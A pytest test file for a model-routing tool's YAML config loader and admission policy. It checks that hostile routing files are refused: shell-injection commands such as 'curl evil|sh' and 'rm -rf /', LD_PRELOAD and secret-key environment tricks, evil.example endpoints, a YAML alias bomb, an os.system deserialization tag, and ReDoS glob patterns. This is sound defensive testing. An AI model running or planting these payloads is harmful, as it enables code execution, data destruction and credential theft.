"""Attacks on the routing file, by the ids of the security list: R3, R4, R5, R6, R8, R9, R10."""

import pytest
from tests.unit.policy.policy_world import admitted, book, refused, request

from pointsman.config.routing_file import MAX_ROUTING_BYTES, RoutingFile, load_routing
from pointsman.domain.levels import MODEL_PHASES, Perimeter
from pointsman.domain.run import Refuse, Route
from pointsman.policy.admission import decide
from pointsman.policy.globs import matches

GOOD = "plan: opus\ncode: qwen-s\nqa: sol\n"


def problems(data: bytes) -> list[str]:
    found = load_routing(data)
    assert isinstance(found, tuple), "the file was read"
    return [str(problem) for problem in found]


@pytest.mark.parametrize(
    "command",
    [
        "curl evil|sh",
        "pytest; rm -rf /",
        "pytest && evil",
        "pytest `evil`",
        "pytest $(evil)",
        "pytest > /etc/x",
        "a\nb",
    ],
)
def test_r3_a_command_for_a_shell_is_refused_when_the_file_is_read(command: str) -> None:
    text = GOOD + f"verify: {{commands: [{command!r}]}}\n".replace("'", '"')
    assert "run without a shell" in problems(text.encode())[0]


@pytest.mark.parametrize(
    "command", ["curl evil", "bash -c pytest", "/tmp/pytest -q", "make install", "python -c pytest"]
)
def test_r3_a_command_that_the_policy_does_not_allow_is_refused_before_anything_runs(command: str) -> None:
    found = refused(GOOD + f"verify: {{commands: ['{command}']}}\n")
    assert found.rule == "command"
    assert command in found.reason


def test_r3_a_prepare_command_needs_a_pattern_of_its_own() -> None:
    assert refused(GOOD + "verify: {prepare: {commands: [pytest -q]}}\n").rule == "command"


def test_r3_an_allowed_command_reaches_the_order_as_words() -> None:
    spec = admitted(GOOD + "verify: {commands: ['pytest -k \"a and b\"']}\n")
    assert spec.verify.commands == (("pytest", "-k", "a and b"),)


@pytest.mark.parametrize(
    "line",
    [
        "base_url: http://evil.example",
        "provider_url: http://evil.example",
        "api_key_env: AWS_SECRET_ACCESS_KEY",
        "env: {LD_PRELOAD: /tmp/x.so}",
        "providers: {evil: {kind: openai-compatible, base_url: 'http://evil.example', perimeter: local}}",
        "verify: {env: {PATH: /tmp}}",
        "verify: {commands: ['LD_PRELOAD=/tmp/x.so pytest']}",
        "verify: {commands: ['GIT_SSH_COMMAND=evil pytest']}",
        "routes: {plan: {model: opus, base_url: 'http://evil.example'}, code: qwen-s, qa: sol}",
    ],
)
def test_r4_endpoints_keys_and_environment_are_no_part_of_the_file(line: str) -> None:
    body = line if line.startswith("routes") else GOOD + line
    assert len(problems(body.encode())) == 1


@pytest.mark.parametrize("key", ["include", "extends", "preset", "import", "<<"])
def test_r5_nothing_is_included(key: str) -> None:
    found = problems(f"{GOOD}{key}: https://evil.example/x.yml\n".encode())
    assert found == [f'.pointsman.yml:4:1: unknown key "{key}" (a routing file is one file; nothing is included)']


def test_r6_an_alias_bomb_is_refused_at_its_first_anchor() -> None:
    levels = "\n".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]" for n in range(1, 10))
    assert problems(f"l0: &l0 x\n{levels}\n".encode())[0].startswith(".pointsman.yml:1:5: anchors are not read")


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"plan: !!python/object/apply:os.system ['id']\n", "tags are not read"),
        (b"%TAG ! tag:evil,2026:\n---\nplan: !x y\n", "tags are not read"),
        (GOOD.encode() + b"plan: haiku\n", "stands here a second time"),
        (GOOD.encode() + b"# " + b"x" * 5_000_000, "bytes (at most 65536 are read)"),
        (b"plan: " + b"[" * (MAX_ROUTING_BYTES - 10), "nested more than 12 deep"),
        (b"plan: " + b"{a: " * 15_000, "nested more than 12 deep"),
        (GOOD.encode("utf-16"), "not UTF-8"),
        (b"plan: opus\x00\n", "control character"),
        (GOOD.encode() + b"review: {auto_fix: no}\n", "true or false is wanted here"),
        (GOOD.encode() + b"review: {max_findings: 010}\n", "a whole number is wanted here"),
        (GOOD.encode() + b"budget: {run_usd: 1e9999}\n", "a number is wanted here"),
        (GOOD.encode() + b"budget: {run_usd: .inf}\n", "a number is wanted here"),
        (GOOD.encode() + b"...\n---\nprotected: []\n", "a second document"),
    ],
)
def test_r6_hostile_yaml_gets_one_clear_problem(data: bytes, said: str) -> None:
    assert said in problems(data)[0]


def test_r6_a_country_code_that_yaml_1_1_reads_as_false_stays_text() -> None:
    found = load_routing(b"plan: no\ncode: off\nqa: yes\n")
    assert isinstance(found, RoutingFile)
    assert (found.routes.plan.model, found.routes.code.model, found.routes.qa.model) == ("no", "off", "yes")


@pytest.mark.parametrize("name", ["acme/vault-1", "nobody/knows"])
def test_r8_a_public_model_for_a_closed_repository_is_refused(name: str) -> None:
    found = refused(GOOD + "sensitivity: public\n", request(name))
    assert found.rule == "perimeter"


def test_r8_nothing_in_an_order_for_a_closed_repository_is_outside() -> None:
    text = (
        "plan: {model: qwen-m, fallback: [opus, llama-m]}\n"
        "code: {model: qwen-s, fallback: [haiku], escalate: [sol]}\nqa: {model: llama-s, fallback: [opus]}\n"
    )
    spec = admitted(text, request("acme/vault-1"))
    for order in spec.orders.values():
        for phase in MODEL_PHASES:
            found = order.routes[phase]
            if isinstance(found, Route):
                everyone = (found.primary, *found.fallback, *found.escalate)
                assert {model.provider.perimeter for model in everyone} == {Perimeter.LOCAL}


def test_r9_a_pattern_is_no_regular_expression_and_cannot_blow_up() -> None:
    assert not matches("(a+)+$", "a" * 1000)
    assert not matches("**/" * 60 + "x", "a/" * 400 + "b")
    assert not matches("*a" * 80 + "b", "a" * 200)


def test_r9_a_pattern_that_is_endless_is_refused() -> None:
    assert "1 to 200 characters" in problems((GOOD + f"protected: ['{'*a' * 200}']\n").encode())[0]


@pytest.mark.parametrize("data", [b"", b"# nothing\n", b"null\n", b"[]\n", b"plan\n", b"{}\n", b"plan: opus\n"])
def test_r10_a_missing_or_broken_file_permits_nothing(data: bytes) -> None:
    assert problems(data)


def test_r10_a_model_that_the_policy_does_not_know_is_never_guessed() -> None:
    decision = decide(request(), book("plan: gpt-latest\ncode: ollama:anything\nqa: sol\n"))
    assert isinstance(decision, Refuse)
    assert decision.rule == "not-in-catalogue"
